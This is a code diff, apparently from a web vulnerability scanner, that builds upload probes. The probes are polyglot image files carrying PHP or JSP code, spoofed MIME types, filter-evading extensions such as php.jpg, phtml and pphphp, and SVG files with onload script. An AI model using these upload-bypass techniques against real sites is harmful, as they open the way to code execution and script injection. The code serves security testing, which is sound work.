@@ -14,21 +14,36 @@ export type ActiveFile = {
 
 /** Its name distinguishes it from what others have sent. */
 const name = '‹nonce3›';
-/** Some sites look at the type that the browser says: of photos, which every list of types has. */
-const photo = 'image/jpeg';
+type Picture = { type: string; content: string };
+
 const bytes = (base64: string): string => textOfBytes(Buffer.from(base64, 'base64'));
 /** Pictures of one point, for sites that look at what is in a file; programs that show them skip what stands behind. */
-const pictures = {
-  gif: bytes('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'),
-  png: bytes('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
+const gif: Picture = {
+  type: 'image/gif',
+  content: bytes('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'),
 };
+const png: Picture = {
+  type: 'image/png',
+  content: bytes('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
+};
+/** Some sites look at the type that the browser says: of photos, which most lists of types have. */
+const photo: Picture = { ...gif, type: 'image/jpeg' };
+
+/** What the page says that it takes, where that is no photo. */
+function pictureFor(accept: string): Picture {
+  const takes = (kind: RegExp) => accept.split(',').some((each) => kind.test(each.trim()));
+  if (accept === '' || takes(/^(?:image\/(?:\*|p?jpe?g)|\.jpe?g|\*\/\*)$/i)) return photo;
+  return (
+    [gif, png].find(({ type }) => takes(new RegExp(`^(?:${type}|${type.replace('image/', '[.]')})$`, 'i'))) ?? photo
+  );
+}
 
 type Code = { language: string; write(begin: string): string };
 
-const run = (ending: string, { language, write }: Code, picture = pictures.gif): ActiveFile => {
+const run = (ending: string, { language, write }: Code, { type, content }: Picture): ActiveFile => {
   const file = (begin: string): UploadedFile => ({
-    ...{ name: `${name}.${ending}`, type: photo },
-    content: `${picture}‹nonce›${write(begin)}‹nonce2›`,
+    ...{ name: `${name}.${ending}`, type },
+    content: `${content}‹nonce›${write(begin)}‹nonce2›`,
   });
   return {
     file: file('?'),
@@ -41,13 +56,13 @@ const run = (ending: string, { language, write }: Code, picture = pictures.gif):
 /** The short form of a print, which filters of "<?php" do not know. */
 const php: Code = { language: 'PHP', write: (begin) => `<${begin}=‹int›*‹int2›?>` };
 /** What is run, what lists of refused endings forget, what has the endings of pictures somewhere, what ends in one, and what is one when "php" is taken out of it, once. */
-const phpFiles = [
+const phpFiles = (picture: Picture): ActiveFile[] => [
   ...['php', 'jpg.png.gif.php', 'phtml', 'php.jpg', 'jpg.png.gif.phtml', 'phar', 'pphphp', 'p.phphp'].map((ending) =>
-    run(ending, php),
+    run(ending, php, picture),
   ),
-  ...['php', 'jpg.png.php'].map((ending) => run(ending, php, pictures.png)),
+  ...['php', 'jpg.png.php'].map((ending) => run(ending, php, png)),
 ];
-const jsp = run('jsp', { language: 'JSP', write: (begin) => `<${begin.replace('?', '%')}= ‹int›*‹int2› %>` });
+const jsp: Code = { language: 'JSP', write: (begin) => `<${begin.replace('?', '%')}= ‹int›*‹int2› %>` };
 
 const opened = (ending: string, type: string, write: (script: string) => string): ActiveFile => {
   const file = (script: string): UploadedFile => ({ name: `${name}.${ending}`, type, content: write(script) });
@@ -73,8 +88,9 @@ const loaded = opened(
   (script) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><path d="M0 0h8v8z"/></svg>`,
 );
 
-/** Files to try, by what the site seems to be made with. */
-export function filesFor({ pages }: Surface): ActiveFile[] {
+/** Files to try, by what the site seems to be made with. @param accept kinds of files that the page says to take */
+export function filesFor({ pages }: Surface, accept = ''): ActiveFile[] {
+  const picture = pictureFor(accept);
   const isOf = (path: RegExp, header: RegExp): boolean =>
     pages.some(
       ({ url, headers, setCookies }) =>
@@ -82,7 +98,8 @@ export function filesFor({ pages }: Surface): ActiveFile[] {
         setCookies.some((cookie) => header.test(cookie)) ||
         headers.some(([field, value]) => /^(?:x-powered-by|server)$/i.test(field) && header.test(value)),
     );
-  if (isOf(/\.php\d?(?:\/|$)/i, /\bphp/i)) return [...phpFiles, svg, loaded, html];
-  if (isOf(/\.(?:jspx?|do)(?:;|$)/i, /\b(?:jsp|servlet|jsessionid|tomcat|jetty)/i)) return [jsp, svg, loaded, html];
+  if (isOf(/\.php\d?(?:\/|$)/i, /\bphp/i)) return [...phpFiles(picture), svg, loaded, html];
+  if (isOf(/\.(?:jspx?|do)(?:;|$)/i, /\b(?:jsp|servlet|jsessionid|tomcat|jetty)/i))
+    return [run('jsp', jsp, picture), svg, loaded, html];
   return [html, svg, loaded];
 }
